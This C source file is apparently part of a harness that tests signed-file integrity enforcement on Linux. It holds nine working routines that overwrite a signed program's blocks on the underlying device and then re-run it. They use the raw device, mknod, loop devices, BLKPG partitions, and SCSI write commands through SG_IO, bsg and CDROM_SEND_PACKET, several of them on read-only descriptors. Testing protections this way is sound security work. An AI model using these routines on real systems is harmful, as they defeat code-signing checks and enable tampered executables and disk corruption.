// SPDX-License-Identifier: BSD-3-Clause
/* Ways to write to the device below a mounted file system. Each changes a signed file there. */
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <linux/blkpg.h>
#include <linux/bsg.h>
#include <linux/cdrom.h>
#include <linux/fs.h>
#include <scsi/sg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "attack.h"

#define SECTOR 512

/* A signed program and where it is on its device. */
struct place {
	dev_t device;
	char name[64];	       /* of the device, in /sys/block */
	unsigned long long at; /* bytes from its start */
	int held; /* keeps the inode in memory, and with it what is remembered about it */
};

static void find_name(struct place *place)
{
	char path[64], target[256];
	ssize_t size;

	snprintf(path, sizeof(path), "/sys/dev/block/%u:%u", major(place->device),
		 minor(place->device));
	size = need(readlink(path, target, sizeof(target) - 1), path);
	target[size] = 0;
	snprintf(place->name, sizeof(place->name), "%s", strrchr(target, '/') + 1);
}

/* Executes the program once, so that there is a verdict, and finds it. Its blocks are in one row:
 * it is small. */
static void prepare(struct place *place)
{
	struct stat stat;
	int block = 0;

	copy_file("victim", "program");
	need(answer_of("./program") == INTENDED ? 0 : -1, "victim");
	place->held = need(open("program", O_RDONLY), "program");
	need(fsync(place->held), "program");
	need(fstat(place->held, &stat), "program");
	need(ioctl(place->held, FIBMAP, &block), "FIBMAP");
	place->device = stat.st_dev;
	place->at = (unsigned long long)block * stat.st_blksize;
	find_name(place);
}

static size_t wanted(char *bytes)
{
	size_t size = load_file("payload", bytes, 1 << 16);

	return (size + SECTOR - 1) & -(size_t)SECTOR;
}

/* The device was written: what is in memory of the file goes, then it is executed again. */
static int execute_again(struct place *place)
{
	sync();
	need(echo("1", "/proc/sys/vm/drop_caches"), "drop_caches");
	return RUN("./program");
}

static int write_device(const char *path, unsigned long long at)
{
	static char bytes[1 << 16];
	size_t size = wanted(bytes);
	int fd = open(path, O_RDWR);
	int error = 0;

	if (fd < 0)
		return -errno;
	if (pwrite(fd, bytes, size, at) < 0 || fsync(fd) < 0)
		error = -errno;
	close(fd);
	return error;
}

static int raw_device(void)
{
	struct place place;
	char path[128];
	int error;

	prepare(&place);
	snprintf(path, sizeof(path), "/dev/%s", place.name);
	error = write_device(path, place.at);
	return error ? error : execute_again(&place);
}

/* By a name that nobody watches. */
static int own_node(void)
{
	struct place place;
	int error;

	prepare(&place);
	need(mknod("node", S_IFBLK | 0600, place.device), "mknod");
	error = write_device("node", place.at);
	return error ? error : execute_again(&place);
}

/* A loop device over the device: another device as far as anybody can tell. */
static int loop_over_device(void)
{
	struct place place;
	char path[64], below[128];
	int error, fd;

	prepare(&place);
	snprintf(below, sizeof(below), "/dev/%s", place.name);
	error = attach_loop(below, path, sizeof(path), &fd);
	if (error)
		return error;
	error = write_device(path, place.at);
	close(fd);
	return error ? error : execute_again(&place);
}

/* A partition over the same sectors, made by somebody who has the device open for reading only. */
static int partition(void)
{
	struct place place;
	unsigned long long size;
	char path[128];
	int fd, error;

	prepare(&place);
	snprintf(path, sizeof(path), "/dev/%s", place.name);
	fd = need(open(path, O_RDONLY), path);
	need(ioctl(fd, BLKGETSIZE64, &size), path);
	error = change_partition(fd, BLKPG_ADD_PARTITION, 9, place.at, size - place.at);
	if (error)
		return error;
	snprintf(path, sizeof(path), "/dev/%s9", place.name);
	if (appears(path))
		snprintf(path, sizeof(path), "/dev/%sp9", place.name);
	error = write_device(path, 0);
	need(change_partition(fd, BLKPG_DEL_PARTITION, 9, 0, 0), "partition");
	return error ? error : execute_again(&place);
}

/* --- commands to the disk itself, past all of the block layer --- */

static void fill_write(unsigned char command[10], size_t size, unsigned long long at)
{
	unsigned int sector = at / SECTOR, count = size / SECTOR;

	memset(command, 0, 10);
	command[0] = 0x2a; /* WRITE(10) */
	for (int i = 0; i < 4; i++)
		command[2 + i] = sector >> (24 - 8 * i);
	command[7] = count >> 8;
	command[8] = count;
}

static int send_write(int fd, const char *bytes, size_t size, unsigned long long at)
{
	sg_io_hdr_t request = {.interface_id = 'S', .dxfer_direction = SG_DXFER_TO_DEV};
	unsigned char command[10], sense[32];

	fill_write(command, size, at);
	request.cmdp = command;
	request.cmd_len = sizeof(command);
	request.dxferp = (void *)bytes;
	request.dxfer_len = size;
	request.sbp = sense;
	request.mx_sb_len = sizeof(sense);
	request.timeout = 600000;
	if (ioctl(fd, SG_IO, &request) < 0)
		return -errno;
	return request.status ? -EIO : 0;
}

static int command_to(const char *path, int mode, struct place *place)
{
	static char bytes[1 << 16];
	size_t size = wanted(bytes);
	int fd = open(path, mode);
	int error;

	if (fd < 0)
		return errno == ENOENT ? NOT_HERE : -errno;
	error = send_write(fd, bytes, size, place->at);
	close(fd);
	return error ? error : execute_again(place);
}

/* Through the block device, open for reading. */
static int scsi_command(void)
{
	struct place place;
	char path[128];

	prepare(&place);
	if (strncmp(place.name, "sd", 2))
		return NOT_HERE;
	snprintf(path, sizeof(path), "/dev/%s", place.name);
	return command_to(path, O_RDONLY, &place);
}

/* Through the character device of the disk. */
static int through_generic(int mode)
{
	struct place place;

	prepare(&place);
	if (strncmp(place.name, "sd", 2))
		return NOT_HERE;
	return command_to("/dev/sg0", mode, &place);
}

static int scsi_generic(void)
{
	return through_generic(O_RDWR);
}

/* Who may do anything to devices need not have it open for writing. */
static int scsi_generic_reading(void)
{
	return through_generic(O_RDONLY);
}

/* Through the other character device of the disk, whose number is not always the same. */
static int scsi_bsg(void)
{
	struct sg_io_v4 request = {.guard = 'Q', .request_len = 10, .timeout = 600000};
	static char bytes[1 << 16];
	unsigned char command[10];
	struct place place;
	glob_t found;
	int fd;

	if (glob("/dev/bsg/[0-9]*", 0, NULL, &found))
		return NOT_HERE;
	prepare(&place);
	request.dout_xfer_len = wanted(bytes);
	fill_write(command, request.dout_xfer_len, place.at);
	request.request = (unsigned long)command;
	request.dout_xferp = (unsigned long)bytes;
	fd = need(open(found.gl_pathv[0], O_RDONLY), found.gl_pathv[0]);
	if (ioctl(fd, SG_IO, &request) < 0)
		return -errno;
	close(fd);
	return request.device_status ? -EIO : execute_again(&place);
}

/* By the command that was made for writing compact discs. */
static int scsi_packet(void)
{
	struct cdrom_generic_command request = {.data_direction = CGC_DATA_WRITE,
						.timeout = 150000};
	static char bytes[1 << 16];
	struct place place;
	char path[128];
	int fd;

	prepare(&place);
	if (strncmp(place.name, "sd", 2))
		return NOT_HERE;
	snprintf(path, sizeof(path), "/dev/%s", place.name);
	request.buflen = wanted(bytes);
	fill_write(request.cmd, request.buflen, place.at);
	request.buffer = (unsigned char *)bytes;
	fd = need(open(path, O_RDONLY | O_NONBLOCK), path);
	if (ioctl(fd, CDROM_SEND_PACKET, &request) < 0)
		return -errno;
	close(fd);
	return execute_again(&place);
}

const struct attack device_attacks[] = {
	{"raw-device", raw_device},
	{"own-node", own_node},
	{"loop-over-device", loop_over_device},
	{"partition", partition},
	{"scsi-command", scsi_command},
	{"scsi-packet", scsi_packet},
	{"scsi-generic", scsi_generic},
	{"scsi-generic-reading", scsi_generic_reading},
	{"scsi-bsg", scsi_bsg},
	{NULL, NULL},
};
